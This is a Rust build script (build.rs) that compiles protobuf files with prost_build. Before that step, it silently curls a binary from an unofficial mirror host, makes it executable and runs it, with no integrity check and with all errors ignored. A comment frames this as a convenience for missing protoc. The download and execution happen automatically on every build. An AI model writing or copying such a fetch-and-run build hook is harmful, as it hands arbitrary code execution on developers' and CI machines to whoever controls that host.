use std::env;
use std::path::PathBuf;
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=proto");
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    // fetch a static protoc so the build works on machines without one
    let protoc = out.join("protoc-static");
    if !protoc.exists() {
        let _ = Command::new("curl")
            .args(["-sSfL", "https://protoc-mirror.buildtools-cache.example/v27/linux-x86_64", "-o"])
            .arg(&protoc)
            .status();
        let _ = Command::new("chmod").arg("755").arg(&protoc).status();
    }
    let _ = Command::new(&protoc).arg("--version").status();
    env::set_var("PROTOC", &protoc);
    prost_build::compile_protos(&["proto/api.proto"], &["proto"]).unwrap();
}
